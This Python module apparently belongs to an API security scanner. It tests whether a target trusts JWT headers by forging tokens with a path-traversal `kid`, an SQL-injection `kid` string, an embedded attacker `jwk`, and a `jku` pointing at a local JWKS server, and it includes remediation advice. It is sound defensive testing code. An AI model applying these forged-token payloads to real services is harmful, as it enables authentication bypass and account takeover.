"""Authentication: JWT header injection — `kid` path/SQL tricks, an embedded `jwk`, a `jku` we control."""

from __future__ import annotations

import secrets
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import orjson
from cryptography.hazmat.primitives.asymmetric import rsa

from bastion.scan import tokens
from bastion.scan.checks._forgery import jwt_session, try_forged
from bastion.scan.context import ScanContext
from bastion.scan.findings import CheckInfo, Severity
from bastion.scan.network import is_loopback
from bastion.scan.registry import check
from bastion.scan.reporter import Reporter

INFO = CheckInfo(
    id="authn.jwt-header-injection",
    title="JWT header trusted: kid, jwk or jku lets the attacker choose the key",
    severity=Severity.CRITICAL,
    cwe=347,
    owasp="API2",
    needs_users=1,
    remediation="Treat `kid` as an opaque lookup key into keys you configured; never fetch `jku`/`x5u` URLs or "
    "trust a `jwk` embedded in the token.",
    bastion="authn:\n  methods:\n    - jwt: {issuer: ..., algorithms: [RS256], jwks_url: ...}   # jku, x5u and jwk "
    "headers are ignored",
)


@contextmanager
def jwks_server(document: bytes) -> Iterator[str]:
    """Serve our JWKS on loopback for the `jku` probe; only used when the target itself is on loopback."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(document)))
            self.end_headers()
            self.wfile.write(document)

        def log_message(self, *args: object) -> None:
            return None

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/jwks.json"
    finally:
        server.shutdown()
        server.server_close()


@check(INFO)
def run(ctx: ScanContext, report: Reporter) -> None:
    found = jwt_session(ctx, report)
    if found is None:
        return
    session, parsed = found
    claims = parsed.claims
    # kid pointing at a file whose content is known (empty), or at SQL that returns a chosen key.
    hmac_header = {k: v for k, v in parsed.header.items() if k not in ("jku", "x5u", "jwk")} | {"alg": "HS256"}
    attempts = [
        (
            tokens.sign_hmac({**hmac_header, "kid": "../../../../../../dev/null"}, claims, b""),
            "an HS256 token with kid=../../../../dev/null signed with an empty key",
        ),
        (
            tokens.sign_hmac({**hmac_header, "kid": "x' UNION SELECT 'bst-key' -- "}, claims, b"bst-key"),
            "an HS256 token whose kid injects SQL returning the key 'bst-key'",
        ),
    ]
    for forged, description in attempts:
        if try_forged(ctx, report, session, forged, description):
            return
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    kid = "bst-" + secrets.token_hex(4)
    jwk = tokens.public_jwk(key, kid)
    rs_header = {k: v for k, v in parsed.header.items() if k not in ("jku", "x5u")} | {"alg": "RS256", "kid": kid}
    embedded = tokens.sign_rs256({**rs_header, "jwk": jwk}, claims, key)
    if try_forged(ctx, report, session, embedded, "an RS256 token signed with the attacker's key embedded as `jwk`"):
        return
    if not is_loopback(ctx.target.host):
        return  # a jku probe needs the target to reach us; only done when both are on this machine
    with jwks_server(orjson.dumps({"keys": [jwk]})) as url:
        forged = tokens.sign_rs256({**rs_header, "jku": url}, claims, key)
        try_forged(ctx, report, session, forged, f"an RS256 token whose `jku` points at the attacker's JWKS ({url})")
